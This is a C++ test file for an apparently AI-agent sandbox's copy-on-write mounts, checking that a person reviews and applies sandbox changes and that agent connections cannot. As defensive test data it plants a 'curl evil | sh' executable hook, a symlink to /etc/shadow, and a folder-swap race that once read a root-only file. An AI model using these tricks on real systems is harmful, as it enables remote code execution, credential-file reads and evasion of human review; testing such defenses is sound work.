// SPDX-License-Identifier: Apache-2.0
// A copy-on-write mount (`--mount HOST:PATH:cow`, decision 9): the sandbox reads the host folder
// and writes to it as if it were its own, while the host folder stays as it was; what it changed
// is kept apart (the overlay's upper folder in the runtime's folder: new and changed files whole,
// deletions as whiteouts, a replaced folder marked opaque). Under a root daemon (the overlay
// mounted in the runtime's private mount namespace) and a user's (in a user namespace of its own,
// then bubblewrap inside it), as a sandbox would use it and as one would try to reach past it.
#include "TestHelpers.h"
#include "sandbox/CowChanges.h"

#include <QDir>
#include <QDirIterator>
#include <QTest>

#include <atomic>
#include <fcntl.h>
#include <linux/fs.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <thread>

using namespace airlock;
using namespace airlock::test;

namespace {
// What each step leaves: a changed file, a deleted one, a new one, a folder replaced by another.
const QString kScript
    = QStringLiteral("cd /project/p && echo more >> a.txt && rm b.txt && echo new > c.txt && rm -r sub && mkdir sub && "
                     "echo fresh > sub/f.txt && cat a.txt && ls");

// The host folder a test gives the sandbox, owned by `uid`.
QString makeProject(const QTemporaryDir &dir, uid_t uid)
{
    const QString root = dir.filePath(QStringLiteral("proj"));
    QDir().mkpath(root + QStringLiteral("/sub"));
    writeFile(root + QStringLiteral("/a.txt"), "base\n");
    writeFile(root + QStringLiteral("/b.txt"), "gone\n");
    writeFile(root + QStringLiteral("/sub/k.txt"), "kept\n");
    QDirIterator it(dir.path(), QDir::AllEntries | QDir::NoDotAndDotDot, QDirIterator::Subdirectories);
    QStringList all{dir.path()};
    while (it.hasNext())
        all.append(it.next());
    for (const QString &p : std::as_const(all)) {
        (void)::chown(QFile::encodeName(p).constData(), uid, uid);
        ::chmod(QFile::encodeName(p).constData(), QFileInfo(p).isDir() ? 0777 : 0666);
    }
    return root;
}

// The host folder as it was made.
void unchanged(const QString &root)
{
    QCOMPARE(readFile(root + QStringLiteral("/a.txt")), QByteArray("base\n"));
    QCOMPARE(readFile(root + QStringLiteral("/b.txt")), QByteArray("gone\n"));
    QCOMPARE(readFile(root + QStringLiteral("/sub/k.txt")), QByteArray("kept\n"));
    QVERIFY(!QFileInfo::exists(root + QStringLiteral("/c.txt")));
}

// What the overlay kept of the sandbox's changes, and how a person reviewing them reads them.
void changesKept(const QString &upper, const QString &lower)
{
    const auto changes = cow::listChanges(upper, lower);
    QVERIFY2(changes, qPrintable(changes ? QString() : changes.error().message));
    QStringList seen;
    for (const cow::Change &c : *changes)
        seen.append(cow::statusName(c.status) + QLatin1Char(' ') + c.path);
    QCOMPARE(seen,
        (QStringList{QStringLiteral("modified a.txt"), QStringLiteral("deleted b.txt"), QStringLiteral("added c.txt"),
            QStringLiteral("added sub/f.txt"), QStringLiteral("deleted sub/k.txt")}));
    QCOMPARE(changes->first().size, 10);
    QCOMPARE(readFile(upper + QStringLiteral("/a.txt")), QByteArray("base\nmore\n"));
    QCOMPARE(readFile(upper + QStringLiteral("/c.txt")), QByteArray("new\n"));
    QCOMPARE(readFile(upper + QStringLiteral("/sub/f.txt")), QByteArray("fresh\n"));
    struct stat st { };
    QCOMPARE(::lstat(QFile::encodeName(upper + QStringLiteral("/b.txt")).constData(), &st), 0);
    QVERIFY(S_ISCHR(st.st_mode) && st.st_rdev == 0); // a whiteout
    char opaque[4] = {};
    QCOMPARE(::lgetxattr(QFile::encodeName(upper + QStringLiteral("/sub")).constData(), "user.overlay.opaque", opaque,
                 sizeof opaque),
        1L);
    QCOMPARE(opaque[0], 'y');
    QVERIFY(!QFileInfo::exists(upper + QStringLiteral("/sub/k.txt")));
}
// The person reviews the changes (agent changes, diff) and applies them, one folder and then the
// rest, as themselves (`ctl` runs airlockctl as the daemon's user): the host folder then holds
// what the sandbox made, and nothing is left to review. A link the sandbox made out of the folder
// is not applied unless named.
template<typename Ctl> void reviewAndApply(const Ctl &ctl, const QString &root)
{
    auto [listed, list] = ctl(args("agent", "changes", "cow"));
    QVERIFY2(listed == 0 && list.contains(QByteArray("deleted   " + root.toUtf8() + "/b.txt")), list.constData());
    auto [diffed, diff] = ctl(args("agent", "diff", "cow"));
    QVERIFY2(diffed == 0, diff.constData());
    QVERIFY2(diff.contains("--- a/a.txt\n+++ b/a.txt\n@@ -1 +1,2 @@\n base\n+more\n"), diff.constData());
    QVERIFY2(diff.contains("diff --git a/b.txt b/b.txt\ndeleted file mode 100644\n"), diff.constData());
    QVERIFY2(diff.contains("+++ b/c.txt\n@@ -0,0 +1 @@\n+new\n"), diff.constData());
    QVERIFY2(diff.contains("the-shadow"), diff.constData()); // the link, shown
    unchanged(root);
    // Once reviewed, nothing the diff did not show is applied: a file the sandbox adds after it
    // (the red team's executable hook) refuses the whole apply until the person looks again.
    auto [late, lateOut] = ctl(args("exec", "cow", "-n", "--", "sh", "-c",
        "echo 'curl evil | sh' > /project/p/late.sh && chmod +x /project/p/late.sh"));
    QVERIFY2(late == 0, lateOut.constData());
    auto [refused, refusedOut] = ctl(args("agent", "apply", "cow"));
    QVERIFY2(refused == 6 && refusedOut.contains("the sandbox changed what you reviewed since")
            && refusedOut.contains("late.sh (added file executable)"),
        refusedOut.constData());
    QVERIFY(!QFileInfo::exists(root + QStringLiteral("/late.sh")));
    unchanged(root);
    QCOMPARE(ctl(args("exec", "cow", "-n", "--", "rm", "/project/p/late.sh")).first, 0);
    auto [one, oneOut] = ctl(args("agent", "apply", "cow", "sub"));
    QVERIFY2(one == 0, oneOut.constData());
    QCOMPARE(readFile(root + QStringLiteral("/sub/f.txt")), QByteArray("fresh\n"));
    QVERIFY(!QFileInfo::exists(root + QStringLiteral("/sub/k.txt")));
    QCOMPARE(readFile(root + QStringLiteral("/a.txt")), QByteArray("base\n"));
    auto [all, allOut] = ctl(args("agent", "apply", "cow"));
    QVERIFY2(all == 0 && allOut.contains("skipped the-shadow: a symbolic link out of the folder (to /etc/shadow)"),
        allOut.constData());
    QCOMPARE(readFile(root + QStringLiteral("/a.txt")), QByteArray("base\nmore\n"));
    QCOMPARE(readFile(root + QStringLiteral("/c.txt")), QByteArray("new\n"));
    QVERIFY(!QFileInfo::exists(root + QStringLiteral("/b.txt")));
    QVERIFY(!QFileInfo(root + QStringLiteral("/the-shadow")).isSymLink());
    auto [left, leftOut] = ctl(args("agent", "changes", "cow"));
    QVERIFY2(left == 0 && leftOut.count('\n') == 2, leftOut.constData()); // the header and the link
}

// The host folder after the review applied all but the link.
void applied(const QString &root)
{
    QCOMPARE(readFile(root + QStringLiteral("/a.txt")), QByteArray("base\nmore\n"));
    QVERIFY(!QFileInfo::exists(root + QStringLiteral("/b.txt")));
    QCOMPARE(readFile(root + QStringLiteral("/sub/f.txt")), QByteArray("fresh\n"));
}
} // namespace

class TestCowMount final : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void underARootDaemon()
    {
        QTemporaryDir dir;
        ::chmod(QFile::encodeName(dir.path()).constData(), 0755);
        const QString root = makeProject(dir, 1000);
        TestDaemon daemon;
        QVERIFY(daemon.start());
        const CliResult created
            = daemon.ctl(args("create", "--name", "cow", "--mount", root + QStringLiteral(":/project/p:cow")));
        QVERIFY2(created.exitCode == 0, qPrintable(created.describe()));
        const CliResult r = execIn(daemon, QStringLiteral("cow"), args("sh", "-c", kScript));
        QVERIFY2(r.exitCode == 0, qPrintable(r.describe()));
        QCOMPARE(r.out, QByteArray("base\nmore\na.txt\nc.txt\nsub\n"));
        unchanged(root);
        const QString id = sandboxInfo(daemon, QStringLiteral("cow")).value(QStringLiteral("id")).toString();
        QStringList uppers;
        QDirIterator it(QStringLiteral("/var/lib/airlock"), {id + QStringLiteral(".runtime")}, QDir::Dirs,
            QDirIterator::Subdirectories);
        while (it.hasNext())
            uppers.append(it.next() + QStringLiteral("/cow-0/upper"));
        QCOMPARE(uppers.size(), 1);
        changesKept(uppers.first(), root);
        // The sandbox reaches neither the upper folder nor the host folder another way.
        const CliResult look = execIn(daemon, QStringLiteral("cow"),
            args("sh", "-c", "grep -c overlay /proc/self/mountinfo; ls /var/lib/airlock 2>&1 | head -1"));
        QVERIFY2(look.out.startsWith("1\n"), qPrintable(look.describe()));
        QVERIFY2(!look.out.contains("workspaces-"), qPrintable(look.describe()));
        QCOMPARE(
            execIn(daemon, QStringLiteral("cow"), args("ln", "-s", "/etc/shadow", "/project/p/the-shadow")).exitCode,
            0);
        // An agent's connection reviews nothing: not the list, not a file's bytes.
        for (const QStringList &asked : {args("agent", "changes", "cow"), args("agent", "diff", "cow", "a.txt")}) {
            const CliResult agent = daemon.ctl(args("--agent", "mallory") + asked);
            QVERIFY2(
                agent.exitCode == 6 && agent.err.contains("an agent connection cannot review what a sandbox changed"),
                qPrintable(agent.describe()));
        }
        reviewAndApply(
            [&](const QStringList &a) {
                const CliResult r = daemon.ctl(a);
                return std::pair{r.exitCode, QByteArray(r.out + r.err)};
            },
            root);
        // Deleted, nothing of it is left: what was not applied went with it.
        QCOMPARE(daemon.ctl(args("agent", "discard", "cow")).exitCode, 0);
        QVERIFY(!QFileInfo::exists(uppers.first()));
        applied(root);
    }

    void underAUsersDaemon()
    {
        UnprivilegedDaemon daemon;
        QVERIFY(daemon.start());
        QTemporaryDir dir(daemon.home().filePath(QStringLiteral("work-XXXXXX")));
        const QString project = makeProject(dir, UnprivilegedDaemon::kUid);
        const auto [made, out]
            = daemon.ctl(args("create", "--name", "cow", "--mount", project + QStringLiteral(":/project/p:cow")));
        QVERIFY2(made == 0, out.constData());
        const auto [ran, output] = daemon.ctl(args("exec", "cow", "-n", "--", "sh", "-c", kScript));
        QVERIFY2(ran == 0, output.constData());
        QVERIFY2(output.startsWith("base\nmore\na.txt\nc.txt\nsub\n"), output.constData());
        unchanged(project);
        QStringList uppers;
        QDirIterator it(daemon.dataDir(), QDir::Dirs, QDirIterator::Subdirectories);
        while (it.hasNext())
            if (const QString d = it.next(); d.endsWith(QLatin1String(".runtime/cow-0/upper")))
                uppers.append(d);
        QCOMPARE(uppers.size(), 1);
        changesKept(uppers.first(), project);
        // The changes are the user's, as the project is (the sandbox's uid is the user's).
        QCOMPARE(QFileInfo(uppers.first() + QStringLiteral("/c.txt")).ownerId(), UnprivilegedDaemon::kUid);
        QCOMPARE(
            daemon.ctl(args("exec", "cow", "-n", "--", "ln", "-s", "/etc/shadow", "/project/p/the-shadow")).first, 0);
        // Applied by the user, as the user: the files are the user's.
        reviewAndApply([&](const QStringList &a) { return daemon.ctl(a); }, project);
        QCOMPARE(QFileInfo(project + QStringLiteral("/c.txt")).ownerId(), UnprivilegedDaemon::kUid);
        QCOMPARE(daemon.ctl(args("rm", "cow")).first, 0);
        QVERIFY(!QFileInfo::exists(uppers.first()));
        applied(project);
    }

    // The folder swapped for a link to another (root's alone) while sandboxes are made with it,
    // as its owner or another sandbox with a parent folder read-write could: what is mounted is
    // the folder that was checked, with its own owner and mode, or nothing (the red team read a
    // root-only file this way: the mount followed the link after the check, the view's top took
    // the other folder's mode). A race, so it finds a regression often rather than always.
    void aFolderSwappedForALinkIsNeverMounted()
    {
        QTemporaryDir dir;
        ::chmod(QFile::encodeName(dir.path()).constData(), 0755);
        const QString p = dir.filePath(QStringLiteral("p")), q = dir.filePath(QStringLiteral("q")),
                      secret = dir.filePath(QStringLiteral("secret"));
        QVERIFY(QDir().mkpath(p) && QDir().mkpath(secret));
        writeFile(p + QStringLiteral("/file"), "plain\n");
        writeFile(secret + QStringLiteral("/file"), "TOPSECRET\n");
        ::chmod(QFile::encodeName(secret).constData(), 0700);
        ::chmod(QFile::encodeName(p + QStringLiteral("/file")).constData(), 0644);
        ::chmod(QFile::encodeName(secret + QStringLiteral("/file")).constData(), 0644);
        QVERIFY(QFile::link(secret, q));
        TestDaemon daemon;
        QVERIFY(daemon.start());
        std::atomic<bool> stop{false};
        std::thread swapper([&] {
            const QByteArray a = QFile::encodeName(p), b = QFile::encodeName(q);
            while (!stop)
                ::syscall(SYS_renameat2, AT_FDCWD, a.constData(), AT_FDCWD, b.constData(), RENAME_EXCHANGE);
        });
        int mounted = 0, refused = 0;
        for (int i = 0; i < 24; ++i) {
            const QString name = QStringLiteral("race%1").arg(i);
            const CliResult made = daemon.ctl(args("create", "--name", name, "--mount", p + QStringLiteral(":/p:cow")));
            if (made.exitCode != 0) {
                QVERIFY2(made.err.contains("changed since it was checked") || made.err.contains("symbolic link")
                        || made.err.contains("does not exist") || made.err.contains("not a folder")
                        || made.err.contains("mount source"),
                    qPrintable(made.describe()));
                ++refused;
                continue;
            }
            const CliResult r = execIn(daemon, name, args("cat", "/p/file"));
            QVERIFY2(!r.out.contains("TOPSECRET"), qPrintable(r.describe()));
            // The checked folder: p, or the link's target when the link was there when the path
            // was made canonical (then its own mode holds, as for any mount of it).
            QVERIFY2(r.out == "plain\n" || r.err.contains("Permission denied"), qPrintable(r.describe()));
            mounted += r.out == "plain\n" ? 1 : 0;
            daemon.ctl(args("rm", name));
        }
        stop = true;
        swapper.join();
        qInfo("%d mounted the checked folder, %d refused", mounted, refused);
    }

    // Refused where it cannot be had, with the reason.
    void gvisorRefusesItClearly()
    {
        QTemporaryDir dir;
        TestDaemon daemon;
        QVERIFY(daemon.start());
        const CliResult r = daemon.ctl(
            args("create", "--isolation", "gvisor", "--mount", dir.path() + QStringLiteral(":/project/p:cow")));
        QVERIFY(r.exitCode != 0);
        QVERIFY2(r.err.contains("no copy-on-write mounts"), qPrintable(r.describe()));
        const CliResult bad = daemon.ctl(args("create", "--mount", dir.path() + QStringLiteral(":/project/p:cw")));
        QCOMPARE(bad.exitCode, 2);
        QVERIFY2(bad.err.contains("expected ro, rw or cow"), qPrintable(bad.describe()));
    }
};

QTEST_GUILESS_MAIN(TestCowMount)
#include "tst_cow_mount.moc"
